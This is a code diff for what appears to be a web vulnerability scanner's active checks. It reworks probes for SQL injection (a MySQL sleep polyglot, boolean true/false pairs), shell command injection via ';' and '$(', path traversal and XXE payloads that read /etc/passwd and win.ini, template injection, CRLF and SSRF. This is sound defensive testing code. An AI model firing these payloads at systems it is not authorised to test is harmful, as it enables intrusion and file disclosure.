@@ -3,9 +3,11 @@
 #include <re2/re2.h>
 #include <strings.h>
 
+#include <algorithm>
 #include <map>
 #include <memory>
 #include <random>
+#include <set>
 
 #include "ctc/scanner/check_catalog.hpp"
 #include "ctc/scanner/page_compare.hpp"
@@ -32,6 +34,7 @@ struct Target {
 struct Baseline {
   long status = 0;
   std::string body;
+  std::vector<Header> headers;
   double seconds = 0;
   bool ok = false;
 };
@@ -89,8 +92,12 @@ bool looksRedirectable(const Param& p) {
          (p.value.size() > 1 && p.value[0] == '/' && p.value[1] != '/');
 }
 
-bool looksLikeFile(const std::string& v) {
-  return v.find('.') != std::string::npos || v.find('/') != std::string::npos;
+/// A value or name that suggests a file or path (traversal is only tried there).
+bool looksLikeFile(const Param& p) {
+  static const RE2 kName(
+      R"((?i)(file|path|page|doc|document|template|include|inc|dir|folder|load|read|view|download|img|image|name|lang|style|layout))");
+  return p.value.find('.') != std::string::npos || p.value.find('/') != std::string::npos ||
+         RE2::PartialMatch(p.name, kName);
 }
 
 std::string headersText(const HttpResponse& r) {
@@ -98,6 +105,79 @@ std::string headersText(const HttpResponse& r) {
   for (const auto& [k, v] : r.headers) out += "\n" + k + ": " + v;
   return out.substr(0, 800);
 }
+
+std::pair<int, int> randomFactors(std::mt19937_64& random) {
+  return {1000 + static_cast<int>(random() % 8000), 1000 + static_cast<int>(random() % 8000)};
+}
+
+/// Time-based payloads: {o} the original value, {d} the delay in seconds. The first is the
+/// MySQL/MariaDB polyglot that sleeps from numeric, single- and double-quoted contexts.
+constexpr const char* kTimeTemplates[] = {
+    "if(now()=sysdate(),sleep({d}),0)/*'XOR(if(now()=sysdate(),sleep({d}),0))OR'\"XOR(if(now()="
+    "sysdate(),sleep({d}),0))OR\"*/",
+    "{o};sleep {d};",
+};
+
+std::string fillTemplate(std::string_view tpl, const std::string& orig, int delay) {
+  std::string s(tpl);
+  for (auto at = s.find("{o}"); at != std::string::npos; at = s.find("{o}", at + orig.size()))
+    s.replace(at, 3, orig);
+  std::string d = std::to_string(delay);
+  for (auto at = s.find("{d}"); at != std::string::npos; at = s.find("{d}", at + d.size()))
+    s.replace(at, 3, d);
+  return s;
+}
+
+/// The page with every echo of `values` cut out (longest first), for "did it change?".
+std::string withoutEchoes(long status, std::string_view body, std::vector<std::string> values) {
+  static const PageComparator plain(0, "", 0, "");
+  return plain.fingerprint(status, body, std::move(values));
+}
+
+bool echoedInHeaders(const std::vector<Header>& headers, const std::string& value) {
+  if (value.size() < 2) return false;
+  for (const auto& [name, v] : headers)
+    if (v.find(value) != std::string::npos) return true;
+  return false;
+}
+
+struct BooleanPayloads {
+  std::string isTrue, isFalse;
+};
+/// Per context (numeric, quoted): the first spelling, and the second that confirms it.
+std::vector<std::pair<BooleanPayloads, BooleanPayloads>> booleanPairs(const std::string& orig) {
+  return {
+      {{orig + " AND 4371=4371", orig + " AND 4371=4372"}, {orig + " AND 8>3", orig + " AND 3>8"}},
+      {{orig + "' AND 'ctc'='ctc", orig + "' AND 'ctc'='ctd"},
+       {orig + "' AND 'b'>'a", orig + "' AND 'a'>'b"}}};
+}
+
+/// The responses of one parameter's boolean test, judged against its baseline.
+struct BooleanCase {
+  std::shared_ptr<PageComparator> compare;
+  std::map<std::string, std::pair<long, std::string>> responses;  // payload -> status, body
+
+  std::string print(const std::string& payload, long status, std::string_view body) const {
+    return compare->fingerprint(status, body, payload);
+  }
+  /// True page = baseline, false page != baseline (first spelling, stage 3).
+  bool separates(const BooleanPayloads& p) const {
+    auto t = responses.find(p.isTrue), f = responses.find(p.isFalse);
+    if (t == responses.end() || f == responses.end()) return false;
+    return print(p.isTrue, t->second.first, t->second.second) == compare->baseline() &&
+           print(p.isFalse, f->second.first, f->second.second) != compare->baseline();
+  }
+  /// A later response: true pages equal the baseline, false ones the first false page.
+  bool matches(const std::string& payload, bool expectTrue, long status,
+               std::string_view body) const {
+    std::string p = print(payload, status, body);
+    if (expectTrue) return p == compare->baseline();
+    for (const auto& [sent, response] : responses)
+      if (sent.ends_with("4371=4372") || sent.ends_with("'ctc'='ctd"))
+        if (print(sent, response.first, response.second) == p) return true;
+    return false;
+  }
+};
 
 }  // namespace
 
@@ -144,7 +224,8 @@ void runActiveChecks(const std::vector<Endpoint>& endpoints, Fetcher& fetcher,
     Stage stage;
     for (const auto& e : endpoints)
       stage.add(e.request(), [&baselines, &e](const FetchResult& r) {
-        baselines[&e] = {r.response.status, r.response.body, r.response.seconds, true};
+        baselines[&e] = {r.response.status, r.response.body, r.response.headers, r.response.seconds,
+                         true};
       });
     runStage(stage);
   }
@@ -155,34 +236,50 @@ void runActiveChecks(const std::vector<Endpoint>& endpoints, Fetcher& fetcher,
 
   // Stage 2: one round of probes per parameter; what they reveal decides stage 3.
   std::map<std::size_t, std::vector<Reflection>> reflections;
-  std::map<std::size_t, std::string> sqlProbeBodies;         // for the boolean check: did it react?
+  std::set<std::size_t> booleanCandidates;                   // the quote changed the page
   std::map<std::size_t, std::vector<std::string>> timeHits;  // payload templates that slept
-  std::map<std::size_t, std::string> sstiHits;
+  std::set<std::size_t> sstiHits;
   Stage probes;
   for (std::size_t ti = 0; ti < targets.size(); ++ti) {
     const Target& t = targets[ti];
     const Baseline* base = baseOf(t);
     if (!base) continue;
     const std::string& orig = t.p().value;
-    probes.add(t.with(t.marker), [&, ti](const FetchResult& r) {
-      if (r.response.isHtml())
-        reflections[ti] = findReflections(r.response.body, targets[ti].marker);
-    });
-    if (t.p().location == ParamLocation::Path) continue;  // paths: reflected XSS only
+    // Reflection probe, which also carries a template expression: the product of two random
+    // numbers does not appear in a page by chance.
+    {
+      auto [a, b] = randomFactors(random);
+      std::string product = std::to_string(a * b),
+                  expr = std::to_string(a) + "*" + std::to_string(b);
+      HttpRequest req = t.with(t.marker + "{{" + expr + "}}${" + expr + "}<%=" + expr + "%>");
+      probes.add(req, [&, ti, product, base](const FetchResult& r) {
+        if (r.response.isHtml())
+          reflections[ti] = findReflections(r.response.body, targets[ti].marker);
+        if (r.response.body.find(product) != std::string::npos &&
+            base->body.find(product) == std::string::npos)
+          sstiHits.insert(ti);
+      });
+    }
+    if (t.p().location == ParamLocation::Path) continue;  // paths: reflection checks only
 
-    // SQL error: a quote of each kind; the DBMS message must be new.
+    // SQL error: a quote of each kind; the DBMS message must be new. Otherwise, if the quotes
+    // changed the page beyond echoing them, the boolean check has something to measure.
     HttpRequest sqlProbe = t.with(orig + "'\"");
-    probes.add(sqlProbe, [&, ti, sqlProbe, base](const FetchResult& r) {
-      if (auto m = findSqlError(r.response.body); m && !findSqlError(base->body))
+    probes.add(sqlProbe, [&, ti, sqlProbe, base, orig](const FetchResult& r) {
+      if (auto m = findSqlError(r.response.body); m && !findSqlError(base->body)) {
         report("sqli.error", targets[ti], sqlProbe, m->what + " error: " + m->excerpt);
-      else
-        sqlProbeBodies[ti] = r.response.body.substr(0, 64u << 10);
+        return;
+      }
+      std::string probeValue = orig + "'\"";
+      if (withoutEchoes(r.response.status, r.response.body, {probeValue, orig}) !=
+          withoutEchoes(base->status, base->body, {orig}))
+        booleanCandidates.insert(ti);
     });
-    // Command injection: the shell joins X''Y; an echo of our own text does not.
+    // Command injection: the shell joins X''Y into XY; an echo of our own text does not.
     std::string joined = t.marker + "x" + t.marker;
-    for (std::string sep : {";", "|", "$("}) {
-      std::string payload =
-          orig + sep + "echo " + t.marker + "x''" + t.marker + (sep == "$(" ? ")" : "");
+    for (std::string_view sep : {";", "$("}) {
+      std::string payload = orig + std::string(sep) + "echo " + t.marker + "x''" + t.marker +
+                            (sep == "$(" ? ")" : "");
       HttpRequest req = t.with(payload);
       probes.add(req, [&, ti, req, joined, base](const FetchResult& r) {
         if (r.response.body.find(joined) != std::string::npos &&
@@ -191,33 +288,21 @@ void runActiveChecks(const std::vector<Endpoint>& endpoints, Fetcher& fetcher,
                  "the shell ran echo: " + excerptAround(r.response.body, joined));
       });
     }
-    // Path traversal.
-    std::vector<std::string> files = {"../../../../../../../../../../etc/passwd",
-                                      "..\\..\\..\\..\\..\\..\\..\\..\\windows\\win.ini"};
-    if (looksLikeFile(orig)) files.push_back("/etc/passwd");
-    for (const auto& file : files) {
-      HttpRequest req = t.with(file);
-      probes.add(req, [&, ti, req, base](const FetchResult& r) {
-        if (auto m = findFileContent(r.response.body); m && !findFileContent(base->body))
-          report("files.path_traversal", targets[ti], req,
-                 "contents of " + m->what + ": " + m->excerpt);
-      });
+    if (looksLikeFile(t.p())) {
+      std::vector<std::string> files = {"../../../../../../../../../../etc/passwd",
+                                        "..\\..\\..\\..\\..\\..\\..\\..\\windows\\win.ini",
+                                        "/etc/passwd"};
+      for (const auto& file : files) {
+        HttpRequest req = t.with(file);
+        probes.add(req, [&, ti, req, base](const FetchResult& r) {
+          if (auto m = findFileContent(r.response.body); m && !findFileContent(base->body))
+            report("files.path_traversal", targets[ti], req,
+                   "contents of " + m->what + ": " + m->excerpt);
+        });
+      }
     }
-    // Template injection: the product of two random numbers is not in the page by chance.
-    {
-      int a = 1000 + static_cast<int>(random() % 8000),
-          b = 1000 + static_cast<int>(random() % 8000);
-      std::string product = std::to_string(a * b);
-      std::string expr = std::to_string(a) + "*" + std::to_string(b);
-      HttpRequest req = t.with(orig + "{{" + expr + "}}${" + expr + "}<%=" + expr + "%>");
-      probes.add(req, [&, ti, req, product, base](const FetchResult& r) {
-        if (r.response.body.find(product) != std::string::npos &&
-            base->body.find(product) == std::string::npos)
-          sstiHits[ti] = excerptAround(r.response.body, product);
-      });
-    }
-    // CRLF: a header of our own in the response headers.
-    {
+    // CRLF: where the value already lands in a response header, a header of our own.
+    if (echoedInHeaders(base->headers, orig)) {
       std::string header = "X-Ctc-" + t.marker;
       HttpRequest req = t.with(orig + "\r\n" + header + ": injected");
       probes.add(req, [&, ti, req, header](const FetchResult& r) {
@@ -239,7 +324,8 @@ void runActiveChecks(const std::vector<Endpoint>& endpoints, Fetcher& fetcher,
                  "HTTP " + std::to_string(r.response.status) + " Location: " + *location);
       });
     }
-    if (!orig.empty() && orig.front() == '<') {
+    if ((!orig.empty() && orig.front() == '<') ||
+        lower(t.p().name).find("xml") != std::string::npos) {
       for (const char* file : {"file:///etc/passwd", "file:///c:/windows/win.ini"}) {
         HttpRequest req =
             t.with(std::string("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY ctc SYSTEM \"") +
@@ -257,50 +343,29 @@ void runActiveChecks(const std::vector<Endpoint>& endpoints, Fetcher& fetcher,
       probes.add(req, [&, ti, req, base, title, orig](const FetchResult& r) {
         bool fetched = !title.empty() && r.response.body.find(title) != std::string::npos &&
                        base->body.find(title) == std::string::npos;
-        if (fetched) {
+        if (fetched)
           report("ssrf.confirmed", targets[ti], req,
                  "the response contains the title of " + options.siteRootUrl + " (\"" + title +
                      "\"), which the server fetched: " + excerptAround(r.response.body, title));
-        } else {
+        else
           report("ssrf.candidate", targets[ti], targets[ti].endpoint->request(),
                  "parameter value is a URL: " + orig);
-        }
       });
     }
-    if (options.timeBased) {
-      for (std::string tpl :
-           {std::string("{o} AND SLEEP({d})"), std::string("{o}' AND SLEEP({d})-- -"),
-            std::string("{o}'||pg_sleep({d})||'"), std::string("{o}';WAITFOR DELAY '0:0:{d}'--"),
-            std::string("{o};sleep {d};")}) {
-        auto fill = [tpl, orig](int d) {
-          std::string s = tpl;
-          s.replace(s.find("{o}"), 3, orig);
-          s.replace(s.find("{d}"), 3, std::to_string(d));
-          return s;
-        };
-        HttpRequest req = t.with(fill(kDelaySeconds));
-        probes.add(req, [&, ti, tpl, base](const FetchResult& r) {
-          if (r.response.seconds >= kDelaySeconds && base->seconds < kDelaySeconds / 2.0)
-            timeHits[ti].push_back(tpl);
+    if (options.timeBased && base->seconds < kDelaySeconds / 2.0) {
+      for (const char* tpl : kTimeTemplates) {
+        HttpRequest req = t.with(fillTemplate(tpl, orig, kDelaySeconds));
+        probes.add(req, [&, ti, tpl](const FetchResult& r) {
+          if (r.response.seconds >= kDelaySeconds) timeHits[ti].push_back(tpl);
         });
       }
     }
   }
   runStage(probes);
 
-  // Stage 3: payloads for the reflections found, confirmations, boolean pairs.
+  // Stage 3: payloads for the reflections found, confirmations, the first boolean pairs.
   Stage second;
-  struct BooleanCase {
-    std::unique_ptr<PageComparator> compare;
-    std::map<std::string, std::string> prints;  // payload -> fingerprint
-  };
   std::map<std::size_t, BooleanCase> booleans;
-  auto booleanPayloads = [](const std::string& orig) {
-    return std::vector<std::string>{orig + " AND 4371=4371",   orig + " AND 4371=4372",
-                                    orig + "' AND 'ctc'='ctc", orig + "' AND 'ctc'='ctd",
-                                    orig + " AND 8>3",         orig + " AND 3>8",
-                                    orig + "' AND 'b'>'a",     orig + "' AND 'a'>'b"};
-  };
   for (std::size_t ti = 0; ti < targets.size(); ++ti) {
     const Target& t = targets[ti];
     const Baseline* base = baseOf(t);
@@ -315,91 +380,73 @@ void runActiveChecks(const std::vector<Endpoint>& endpoints, Fetcher& fetcher,
                    "the payload became executable markup: " + proof);
         });
       }
-    if (auto hit = sstiHits.find(ti); hit != sstiHits.end()) {
-      int a = 1000 + static_cast<int>(random() % 8000),
-          b = 1000 + static_cast<int>(random() % 8000);
+    if (sstiHits.count(ti)) {
+      auto [a, b] = randomFactors(random);
       std::string product = std::to_string(a * b);
       HttpRequest req =
           t.with(t.p().value + "{{" + std::to_string(a) + "*" + std::to_string(b) + "}}");
       second.add(req, [&, ti, req, product](const FetchResult& r) {
         if (r.response.body.find(product) != std::string::npos)
           report("injection.ssti", targets[ti], req,
-                 "the template evaluated the expression to " + product + ": " +
+                 "the template evaluated the expression to " + product +
+                     " (twice, with "
+                     "different numbers): " +
                      excerptAround(r.response.body, product));
       });
     }
     if (auto hit = timeHits.find(ti); hit != timeHits.end()) {
-      const std::string tpl = hit->second.front();
-      std::string value = tpl;
-      value.replace(value.find("{o}"), 3, t.p().value);
-      value.replace(value.find("{d}"), 3, std::to_string(2 * kDelaySeconds));
-      HttpRequest req = t.with(value);
-      bool shell = tpl.find("sleep {d};") != std::string::npos;
+      std::string_view tpl = hit->second.front();
+      HttpRequest req = t.with(fillTemplate(tpl, t.p().value, 2 * kDelaySeconds));
+      bool shell = tpl.find("sleep {d};") != std::string_view::npos;
       double baseSeconds = base->seconds;
       second.add(req, [&, ti, req, shell, baseSeconds](const FetchResult& r) {
         if (r.response.seconds < 2 * kDelaySeconds) return;
         report(shell ? "injection.command" : "sqli.time", targets[ti], req,
-               "asked for " + std::to_string(kDelaySeconds) + " s and " +
-                   std::to_string(2 * kDelaySeconds) + " s of delay: the responses took " +
-                   std::to_string(kDelaySeconds) + "+ s and " + std::to_string(r.response.seconds) +
-                   " s; the baseline took " + std::to_string(baseSeconds) + " s");
+               "asked for " + std::to_string(kDelaySeconds) + " s, then " +
+                   std::to_string(2 * kDelaySeconds) + " s of delay: both came (this one took " +
+                   std::to_string(r.response.seconds) + " s); the baseline took " +
+                   std::to_string(baseSeconds) + " s");
       });
     }
-    // Boolean SQL injection only where the quote probe changed the page (the input reaches
-    // something that parses it) and no error already proved the injection.
-    auto probe = sqlProbeBodies.find(ti);
-    if (probe == sqlProbeBodies.end() || probe->second == base->body.substr(0, 64u << 10)) continue;
+    if (!booleanCandidates.count(ti)) continue;
     second.add(t.endpoint->request(), [&, ti, base](const FetchResult& r) {
-      booleans[ti].compare = std::make_unique<PageComparator>(base->status, base->body,
+      booleans[ti].compare = std::make_shared<PageComparator>(base->status, base->body,
                                                               r.response.status, r.response.body);
     });
-    for (const auto& payload : booleanPayloads(t.p().value))
-      second.add(t.with(payload), [&, ti, payload](const FetchResult& r) {
-        booleans[ti].prints[payload] = std::to_string(r.response.status) + "\n" + r.response.body;
-      });
+    for (const auto& pair : booleanPairs(t.p().value))
+      for (const auto& payload : {pair.first.isTrue, pair.first.isFalse})
+        second.add(t.with(payload), [&, ti, payload](const FetchResult& r) {
+          booleans[ti].responses[payload] = {r.response.status, r.response.body};
+        });
   }
   runStage(second);
 
-  // Boolean verdicts: true pages equal the baseline, false pages equal each other and differ,
-  // in two different spellings of true and false; then the first pair once more.
+  // Stage 4: where a true condition kept the page and a false one changed it, the other
+  // spelling of the same context and a repeat of the first pair must agree.
   Stage third;
   for (auto& [ti, c] : booleans) {
     if (!c.compare || !c.compare->stable()) continue;
     const Target& t = targets[ti];
-    auto payloads = booleanPayloads(t.p().value);
-    auto print = [&](const std::string& payload) {
-      auto it = c.prints.find(payload);
-      if (it == c.prints.end()) return std::string("?");
-      auto nl = it->second.find('\n');
-      return c.compare->fingerprint(std::stol(it->second.substr(0, nl)),
-                                    std::string_view(it->second).substr(nl + 1), payload);
-    };
-    for (std::size_t k = 0; k < 4; k += 2) {  // numeric (0,1 and 4,5), quoted (2,3 and 6,7)
-      const auto &true1 = payloads[k], &false1 = payloads[k + 1];
-      const auto &true2 = payloads[k + 4], &false2 = payloads[k + 5];
-      const std::string& base = c.compare->baseline();
-      if (print(true1) != base || print(true2) != base || print(false1) == base ||
-          print(false2) == base || print(false1) != print(false2))
-        continue;
-      PageComparator* cmp = c.compare.get();
-      std::string expectFalse = print(false1);
-      auto again = std::make_shared<int>(0);
-      for (const auto& payload : {true1, false1}) {
-        bool isTrue = payload == true1;
-        HttpRequest req = t.with(payload);
-        HttpRequest trueReq = t.with(true1), falseReq = t.with(false1);
-        third.add(req, [&, ti, cmp, payload, isTrue, again, expectFalse, trueReq, falseReq,
-                        base](const FetchResult& r) {
-          std::string p = cmp->fingerprint(r.response.status, r.response.body, payload);
-          if (p != (isTrue ? base : expectFalse)) return;
-          if (++*again == 2)
-            report("sqli.boolean", targets[ti], falseReq,
-                   "the page is unchanged for a true condition (" + describeRequest(trueReq) +
-                       ") and changes for a false one, in two spellings and on a repeat; "
-                       "false page: " +
-                       std::string(r.response.body.substr(0, kExcerpt)));
+    for (const auto& pair : booleanPairs(t.p().value)) {
+      if (!c.separates(pair.first)) continue;
+      auto verdicts = std::make_shared<int>(0);
+      auto check = [&, ti, cPtr = &c, verdicts, pair](const std::string& payload, bool expectTrue,
+                                                      const FetchResult& r) {
+        if (cPtr->matches(payload, expectTrue, r.response.status, r.response.body) &&
+            ++*verdicts == 4)
+          report("sqli.boolean", targets[ti], t.with(pair.first.isFalse),
+                 "a true condition keeps the page and a false one changes it, in two "
+                 "spellings and on a repeat (true: " +
+                     describeRequest(t.with(pair.first.isTrue)) +
+                     "; second spelling: " + pair.second.isTrue + " / " + pair.second.isFalse +
+                     "); false page: " + std::string(r.response.body.substr(0, kExcerpt)));
+      };
+      for (const auto& [payload, expectTrue] :
+           {std::pair{pair.second.isTrue, true}, std::pair{pair.second.isFalse, false},
+            std::pair{pair.first.isTrue, true}, std::pair{pair.first.isFalse, false}})
+        third.add(t.with(payload), [check, payload, expectTrue](const FetchResult& r) {
+          check(payload, expectTrue, r);
         });
-      }
       break;
     }
   }
